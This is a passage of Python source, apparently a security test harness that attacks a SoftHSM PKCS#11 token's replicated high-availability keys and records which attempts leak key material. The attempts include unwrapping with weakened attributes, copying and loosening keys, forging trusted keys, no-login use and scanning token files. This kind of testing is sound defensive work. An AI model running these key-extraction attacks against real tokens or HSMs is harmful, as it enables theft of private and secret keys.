                    CKA_EXTRACTABLE: True,
                },
            )
            self.record(
                "12b",
                f"unwrap the kept {kind} blob with domain key #{i} (public family) as a public key",
                "user",
                rv2,
                key=kind,
                dk=i,
            )

    def unwrap_attacks(self, s, dk, i, kind, cls, ktype, blob, own, own_value) -> None:
        base = {CKA_CLASS: cls, CKA_KEY_TYPE: ktype, CKA_TOKEN: False}
        # 1b: the classic: unwrap in the clear
        rv, h = unwrap(
            s, CKM_AES_KEY_WRAP_PAD, dk, blob, {**base, CKA_SENSITIVE: False, CKA_EXTRACTABLE: True}
        )
        leaked, which = self.read_secret(s, h, kind) if rv == 0 else (False, "")
        self.record(
            "1b",
            f"unwrap {kind} blob from domain key #{i} with SENSITIVE=FALSE, EXTRACTABLE=TRUE",
            "user",
            rv,
            leaked,
            which,
            key=kind,
            dk=i,
        )
        # 1b': same, attributes not named at all (token defaults)
        rv, h = unwrap(s, CKM_AES_KEY_WRAP_PAD, dk, blob, dict(base))
        leaked, which = self.read_secret(s, h, kind) if rv == 0 else (False, "")
        self.record(
            "1b",
            f"unwrap {kind} blob from domain key #{i} with a bare template",
            "user",
            rv,
            leaked,
            which,
            key=kind,
            dk=i,
        )
        # 1c: sensitive, but free to wrap under anything; then wrap under own key, decrypt outside
        rv, h = unwrap(
            s,
            CKM_AES_KEY_WRAP_PAD,
            dk,
            blob,
            {**base, CKA_SENSITIVE: True, CKA_EXTRACTABLE: True, CKA_WRAP_WITH_TRUSTED: False},
        )
        leaked, detail = False, ""
        if rv == 0:
            rv2, blob2 = wrap(s, CKM_AES_KEY_WRAP_PAD, own, h)
            detail = f"then wrap under own key: {ckr(rv2)}"
            if rv2 == 0:
                leaked = self.truth.any_material(kind, self.offline_unwrap(own_value, blob2))
        self.record(
            "1c",
            f"unwrap {kind} blob from domain key #{i} with WRAP_WITH_TRUSTED=FALSE",
            "user",
            rv,
            leaked,
            detail,
            key=kind,
            dk=i,
        )
        # 1d: as another class: a generic secret whose CKA_VALUE is the key (PKCS#8 or raw)
        gen = {CKA_CLASS: CKO_SECRET_KEY, CKA_KEY_TYPE: CKK_GENERIC_SECRET, CKA_TOKEN: False}
        if kind != "aes":
            rv, h = unwrap(
                s, CKM_AES_KEY_WRAP_PAD, dk, blob, {**gen, CKA_SENSITIVE: False, CKA_EXTRACTABLE: True}
            )
            leaked, which = self.read_secret(s, h, kind) if rv == 0 else (False, "")
            self.record(
                "1d",
                f"unwrap {kind} blob from domain key #{i} as CKO_SECRET_KEY/CKK_GENERIC_SECRET, "
                "SENSITIVE=FALSE",
                "user",
                rv,
                leaked,
                which,
                key=kind,
                dk=i,
            )
            rv, h = unwrap(
                s,
                CKM_AES_KEY_WRAP_PAD,
                dk,
                blob,
                {**gen, CKA_SENSITIVE: True, CKA_PRIVATE: True, CKA_WRAP_WITH_TRUSTED: True},
            )
            self.record(
                "1d",
                f"unwrap {kind} blob from domain key #{i} as CKO_SECRET_KEY/CKK_GENERIC_SECRET, "
                "SENSITIVE=TRUE, WRAP_WITH_TRUSTED=TRUE",
                "user",
                rv,
                key=kind,
                dk=i,
            )
        else:
            rv, h = unwrap(
                s, CKM_AES_KEY_WRAP_PAD, dk, blob, {**gen, CKA_SENSITIVE: False, CKA_EXTRACTABLE: True}
            )
            leaked = False
            if rv == 0:
                v = get(s, h, CKA_VALUE)[1]
                leaked = self.truth.any_material("aes", v)
            self.record(
                "1d",
                f"unwrap aes blob from domain key #{i} as CKK_GENERIC_SECRET, SENSITIVE=FALSE",
                "user",
                rv,
                leaked,
                key=kind,
                dk=i,
            )
        # 1e: an RSA/EC blob as the other private key type, an AES blob as a private key
        other = {
            "rsa": (CKO_PRIVATE_KEY, CKK_EC),
            "ec": (CKO_PRIVATE_KEY, CKK_RSA),
            "aes": (CKO_PRIVATE_KEY, CKK_RSA),
        }[kind]
        rv, h = unwrap(
            s,
            CKM_AES_KEY_WRAP_PAD,
            dk,
            blob,
            {
                CKA_CLASS: other[0],
                CKA_KEY_TYPE: other[1],
                CKA_TOKEN: False,
                CKA_SENSITIVE: True,
                CKA_PRIVATE: True,
                CKA_WRAP_WITH_TRUSTED: True,
            },
        )
        self.record(
            "1e",
            f"unwrap {kind} blob from domain key #{i} as class {other[0]} key type {other[1]}",
            "user",
            rv,
            key=kind,
            dk=i,
        )
        # 1g: the compliant unwrap replication itself uses: allowed; the copy must stay locked
        rv, h = unwrap(
            s,
            CKM_AES_KEY_WRAP_PAD,
            dk,
            blob,
            {
                **base,
                CKA_SENSITIVE: True,
                CKA_PRIVATE: True,
                CKA_EXTRACTABLE: True,
                CKA_WRAP_WITH_TRUSTED: True,
            },
        )
        self.record(
            "1g",
            f"compliant unwrap of {kind} blob from domain key #{i} (info)",
            "user",
            rv,
            key=kind,
            dk=i,
            allowed=True,
        )
        if rv == 0:
            self.loosen_one(s, h, kind, own, own_value, f"compliant session copy of HA {kind} key")

    def loosen_one(self, s, h, kind, own, own_value, what) -> None:
        """10: try to make a locked key readable or wrappable: set or copy with weaker flags."""
        for name, attrs in (
            ("SENSITIVE=FALSE", {CKA_SENSITIVE: False}),
            ("WRAP_WITH_TRUSTED=FALSE", {CKA_WRAP_WITH_TRUSTED: False}),
        ):
            rv = set_attr(s, h, attrs)
            leaked = False
            if rv == 0:
                leaked, _ = self.read_secret(s, h, kind)
                rv2, blob = wrap(s, CKM_AES_KEY_WRAP_PAD, own, h)
                leaked = leaked or (
                    rv2 == 0 and self.truth.any_material(kind, self.offline_unwrap(own_value, blob))
                )
            self.record("10", f"set {name} on {what}", "user", rv, leaked, key=kind)
            rv, c = copy(s, h, {CKA_TOKEN: False, **attrs})
            leaked = False
            if rv == 0:
                leaked, _ = self.read_secret(s, c, kind)
                rv2, blob = wrap(s, CKM_AES_KEY_WRAP_PAD, own, c)
                leaked = leaked or (
                    rv2 == 0 and self.truth.any_material(kind, self.offline_unwrap(own_value, blob))
                )
            self.record("10", f"copy {what} with {name}", "user", rv, leaked, key=kind)

    def usage_attacks(self, s, dk, i, who) -> None:
        zero_iv = bytes(16)
        for name, fn, mech, param in (
            ("C_Encrypt CKM_AES_ECB", encrypt, CKM_AES_ECB, None),
            ("C_Encrypt CKM_AES_CBC_PAD", encrypt, CKM_AES_CBC_PAD, zero_iv),
            ("C_Decrypt CKM_AES_ECB", decrypt, CKM_AES_ECB, None),
            ("C_Decrypt CKM_AES_CBC", decrypt, CKM_AES_CBC, zero_iv),
            ("C_Decrypt CKM_AES_KEY_WRAP_PAD", decrypt, CKM_AES_KEY_WRAP_PAD, None),
            ("C_Sign CKM_AES_CMAC", sign, CKM_AES_CMAC, None),
            ("C_Sign CKM_SHA256_HMAC", sign, CKM_SHA256_HMAC, None),
        ):
            data = (
                self.blobs[0][2][:16]
                if self.blobs and fn is decrypt and mech != CKM_AES_KEY_WRAP_PAD
                else (self.blobs[0][2] if self.blobs and mech == CKM_AES_KEY_WRAP_PAD else bytes(16))
            )
            rv, out = fn(s, mech, dk, data, param)
            leaked, detail = False, ""
            if rv == 0 and fn is decrypt:
                if mech == CKM_AES_KEY_WRAP_PAD and self.blobs:
                    leaked = self.truth.any_material(self.blobs[0][1], out)
                elif mech == CKM_AES_ECB:
                    leaked, detail = self.oracle_leak(s, dk, "*")
            self.record("5", f"{name} with domain key #{i}", who, rv, leaked, detail, dk=i)
        data = CK_KEY_DERIVATION_STRING_DATA()
        buf = ctypes.create_string_buffer(bytes(16), 16)
        data.pData, data.ulLen = ctypes.addressof(buf), 16
        rv, h = derive(
            s,
            CKM_AES_ECB_ENCRYPT_DATA,
            dk,
            data,
            {
                CKA_CLASS: CKO_SECRET_KEY,
                CKA_KEY_TYPE: CKK_GENERIC_SECRET,
                CKA_VALUE_LEN: 16,
                CKA_TOKEN: False,
                CKA_SENSITIVE: False,
                CKA_EXTRACTABLE: True,
            },
        )
        self.record("5", f"C_DeriveKey CKM_AES_ECB_ENCRYPT_DATA with domain key #{i}", who, rv, dk=i)

    def copy_attacks(self, s, dk, i, who) -> None:
        for name, attrs in (
            ("label changed", {CKA_LABEL: "attacker copy"}),
            ("CKA_PRIVATE=TRUE", {CKA_PRIVATE: True}),
            ("CKA_PRIVATE=FALSE", {CKA_PRIVATE: False}),
            ("no template", {}),
            ("CKA_UNWRAP_TEMPLATE emptied", {CKA_UNWRAP_TEMPLATE: {}}),
            ("CKA_DECRYPT=TRUE", {CKA_DECRYPT: True}),
            ("CKA_EXTRACTABLE=TRUE", {CKA_EXTRACTABLE: True}),
            ("CKA_DESTROYABLE=TRUE, MODIFIABLE=TRUE", {CKA_DESTROYABLE: True, CKA_MODIFIABLE: True}),
        ):
            rv, c = copy(s, dk, {CKA_TOKEN: False, **attrs})
            leaked, detail = False, ""
            if rv == 0:  # what can the copy do that the original cannot?
                leaked, detail = self.oracle_leak(s, c, "*")
                for kind_i, kind, blob in self.blobs:
                    if kind_i != i:
                        continue
                    cls, ktype = self.key_class(kind)
                    rv2, h = unwrap(
                        s,
                        CKM_AES_KEY_WRAP_PAD,
                        c,
                        blob,
                        {
                            CKA_CLASS: cls,
                            CKA_KEY_TYPE: ktype,
                            CKA_TOKEN: False,
                            CKA_PRIVATE: who == "user",
                            CKA_SENSITIVE: False,
                            CKA_EXTRACTABLE: True,
                        },
                    )
                    if rv2 == 0:
                        ok, which = self.read_secret(s, h, kind)
                        if ok:
                            leaked, detail = True, f"copy unwraps {kind} in the clear ({which})"
                rv3, wrapped = wrap(s, CKM_AES_KEY_WRAP_PAD, c, c)
                detail += f"; copy wraps itself: {ckr(rv3)}"
            self.record("4", f"C_CopyObject domain key #{i}, {name}", who, rv, leaked, detail, dk=i)

    def trusted_attacks(self, s, own, who) -> None:
        if own:
            self.record(
                "8", "set CKA_TRUSTED=TRUE on own AES key", who, set_attr(s, own, {CKA_TRUSTED: True})
            )
            rv, _ = copy(s, own, {CKA_TOKEN: False, CKA_TRUSTED: True})
            self.record("8", "copy own AES key with CKA_TRUSTED=TRUE", who, rv)
        rv, _ = create(
            s,
            {
                CKA_CLASS: CKO_SECRET_KEY,
                CKA_KEY_TYPE: CKK_AES,
                CKA_VALUE: bytes(range(32)),
                CKA_TOKEN: False,
                CKA_PRIVATE: who == "user",
                CKA_TRUSTED: True,
                CKA_WRAP: True,
                CKA_UNWRAP: True,
            },
        )
        self.record("8", "C_CreateObject AES key with CKA_TRUSTED=TRUE", who, rv)
        rv, _ = generate(
            s,
            CKM_AES_KEY_GEN,
            {
                CKA_CLASS: CKO_SECRET_KEY,
                CKA_KEY_TYPE: CKK_AES,
                CKA_VALUE_LEN: 32,
                CKA_TOKEN: False,
                CKA_PRIVATE: who == "user",
                CKA_TRUSTED: True,
                CKA_WRAP: True,
            },
        )
        self.record("8", "C_GenerateKey AES key with CKA_TRUSTED=TRUE", who, rv)

    def loosen_attacks(self, s, keys, kinds, dks, own, own_value) -> None:
        for kind in kinds:
            self.loosen_one(s, keys[kind]["priv"], kind, own, own_value, f"HA {kind} key")

    def domain_key_changes(self, s, dks) -> None:
        for i, dk in enumerate(dks):
            if dk is None:
                continue
            for name, attrs in (
                ("CKA_DECRYPT=TRUE", {CKA_DECRYPT: True}),
                ("CKA_EXTRACTABLE=TRUE", {CKA_EXTRACTABLE: True}),
                ("CKA_UNWRAP_TEMPLATE emptied", {CKA_UNWRAP_TEMPLATE: {}}),
            ):
                rv = set_attr(s, dk, attrs)
                leaked, detail = False, ""
                if rv == 0 and CKA_DECRYPT in attrs:
                    leaked, detail = self.oracle_leak(s, dk, "*")
                self.record("10", f"set {name} on domain key #{i}", "user", rv, leaked, detail, dk=i)

    # -------------------------------------------------------------- phase B: no login
    def phase_nologin(self) -> None:
        with self.token.open(rw=True) as session:
            s = session.handle
            handles = {(get(s, h, CKA_ID)[1] or b""): h for h in self.domain_keys(session)}
            dks = [handles.get(key_id) for key_id in self.dk_ids]
            self.record(
                "6",
                "domain keys visible without login",
                "nologin",
                "CKR_OK",
                detail=f"{len(handles)} trusted key(s) found",
                allowed=True,
            )
            for i, kind, blob in self.blobs:
                if dks[i] is None:
                    continue
                cls, ktype = self.key_class(kind)
                rv, h = unwrap(
                    s,
                    CKM_AES_KEY_WRAP_PAD,
                    dks[i],
                    blob,
                    {
                        CKA_CLASS: cls,
                        CKA_KEY_TYPE: ktype,
                        CKA_TOKEN: False,
                        CKA_PRIVATE: False,
                        CKA_SENSITIVE: True,
                        CKA_WRAP_WITH_TRUSTED: True,
                        CKA_EXTRACTABLE: True,
                    },
                )
                detail = ""
                if rv == 0:
                    if kind == "rsa":
                        detail = "session key signs with no login: " + ckr(
                            sign(s, CKM_SHA256_RSA_PKCS, h, b"x")[0]
                        )
                    elif kind == "aes":
                        detail = "session key encrypts with no login: " + ckr(
                            encrypt(s, CKM_AES_ECB, h, bytes(16))[0]
                        )
                self.record(
                    "1f",
                    f"unwrap {kind} blob from domain key #{i} with CKA_PRIVATE=FALSE, no login",
                    "nologin",
                    rv,
                    detail=detail,
                    key=kind,
                    dk=i,
                )
                rv, h = unwrap(
                    s,
                    CKM_AES_KEY_WRAP_PAD,
                    dks[i],
                    blob,
                    {
                        CKA_CLASS: cls,
                        CKA_KEY_TYPE: ktype,
                        CKA_TOKEN: False,
                        CKA_PRIVATE: False,
                        CKA_SENSITIVE: False,
                        CKA_EXTRACTABLE: True,
                    },
                )
                leaked, which = self.read_secret(s, h, kind) if rv == 0 else (False, "")
                self.record(
                    "1f",
                    f"unwrap {kind} blob from domain key #{i} with CKA_PRIVATE=FALSE, "
                    "SENSITIVE=FALSE, no login",
                    "nologin",
                    rv,
                    leaked,
                    which,
                    key=kind,
                    dk=i,
                )
            for i, dk in enumerate(dks):
                if dk is None:
                    continue
                self.usage_attacks(s, dk, i, "nologin")
                self.copy_attacks(s, dk, i, "nologin")
            self.trusted_attacks(s, 0, "nologin")

    # -------------------------------------------------------------- 11: the token files
    def token_files(self) -> None:
        """Is a domain key's value lying in the token folder? Every 32-byte window of every object
        file is tried as the key that unwraps an AES blob (RFC 5649 checks its own integrity)."""
        from cryptography.hazmat.primitives.keywrap import InvalidUnwrap, aes_key_unwrap_with_padding

        blobs = [b for b in self.blobs if b[1] == "aes"]
        conf = os.environ.get("SOFTHSM2_CONF", "")
        folder = ""
        for line in open(conf).read().splitlines() if conf else []:
            name, _, value = line.partition("=")
            if name.strip() == "directories.tokendir":
                folder = value.strip()
        found = ""
        if blobs and folder:
            blob = blobs[0][2]
            for root, _, names in os.walk(folder):
                for name in names:
                    if not name.endswith(".object") or found:
                        continue
                    data = open(os.path.join(root, name), "rb").read()
                    for i in range(len(data) - 31):
                        try:
                            plain = aes_key_unwrap_with_padding(data[i : i + 32], blob)
                        except (InvalidUnwrap, ValueError):
                            continue
                        if self.truth.aes_value(plain):
                            found = f"{name} offset {i}"
                            break
        self.record(
            "11",
            "domain key value read from the token files (file access, no PIN)",
            "files",
            "CKR_OK" if found else "NOT_FOUND",
            bool(found),
            found,
            allowed=True,
        )

    # -------------------------------------------------------------- phases C-E: change the keys
    def _found(self, session) -> list[int | None]:
        handles = {(get(session.handle, h, CKA_ID)[1] or b""): h for h in self.domain_keys(session)}
        return [handles.get(key_id) for key_id in self.dk_ids]

    def _destroy(self, s, dks, who, other) -> None:
        for i, dk in enumerate(dks):
            if dk is None:
                self.record(
                    "6",
                    f"destroy domain key #{i}",
                    who,
                    "NOT_TRIED",
                    detail=f"already destroyed by the {other} session",
                    dk=i,
                )
            else:
                self.record("6", f"destroy domain key #{i}", who, destroy(s, dk), dk=i)

    def phase_user_changes(self) -> None:
        with self.token.open(rw=True, user_pin=USER_PIN) as session:
            s, dks = session.handle, self._found(session)
            self.blobs = [b for b in self.blobs if dks[b[0]] is not None]
            self.domain_key_changes(s, dks)
            for i, dk in enumerate(dks):
                if dk is not None:
                    self.record(
                        "6",
                        f"relabel domain key #{i}",
                        "user",
                        set_attr(s, dk, {CKA_LABEL: "attacker relabelled"}),
                        dk=i,
                    )
            if self.destroy_first == "user":
                self._destroy(s, dks, "user", "no-login")

    def phase_nologin_changes(self) -> None:
        with self.token.open(rw=True) as session:
            s, dks = session.handle, self._found(session)
            for i, dk in enumerate(dks):
                if dk is not None:
                    self.record(
                        "6",
                        f"relabel domain key #{i}",
                        "nologin",
                        set_attr(s, dk, {CKA_LABEL: "no-login relabelled"}),
                        dk=i,
                    )
            self._destroy(s, dks, "nologin", "user")

    def phase_user_destroy(self) -> None:
        with self.token.open(rw=True, user_pin=USER_PIN) as session:
            self._destroy(session.handle, self._found(session), "user", "no-login")

    def run(self, inspect_only: bool) -> dict:
        if inspect_only:
            with self.token.open(rw=False, user_pin=USER_PIN) as session:
                self.inspect(session.handle, self.ha_keys(session))
                dks = self.domain_keys(session)
                self.describe_domain_keys(session.handle, dks)
            return self.out
        self.phase_user()  # 1-5, 7, 8, 10 on the HA keys: nothing on the token changes
        self.token_files()  # 11
        self.phase_nologin()  # 1f, 4, 5, 8 without login: nothing changes either
        self.phase_user_changes()  # 10 on the domain keys, 6 relabel (+ destroy if user first)
        self.phase_nologin_changes()  # 6 relabel and destroy without login
        if self.destroy_first == "nologin":
            self.phase_user_destroy()
        return self.out


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("member")
    parser.add_argument("--keys", default="atk-rsa,atk-ec,atk-aes")
    parser.add_argument("--destroy-first", choices=("user", "nologin"), default="nologin")
    parser.add_argument("--inspect-only", action="store_true")
    parser.add_argument(
        "--kept",
        help="a folder of the HA slot's kept keys (JSON files holding "
        '"label" and a hex "blob"): every blob goes through the unwrap attacks',
    )
    args = parser.parse_args()
    kept = []
    if args.kept:
        for path in sorted(Path(args.kept).glob("*.json")):
            record = json.loads(path.read_text())
            if record.get("blob"):
                kept.append(
                    (record.get("label", ""), record.get("generation"), bytes.fromhex(record["blob"]))
                )
    attacker = Attacker(args.member, args.keys.split(","), args.destroy_first, kept)
    json.dump(attacker.run(args.inspect_only), sys.stdout, indent=1)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
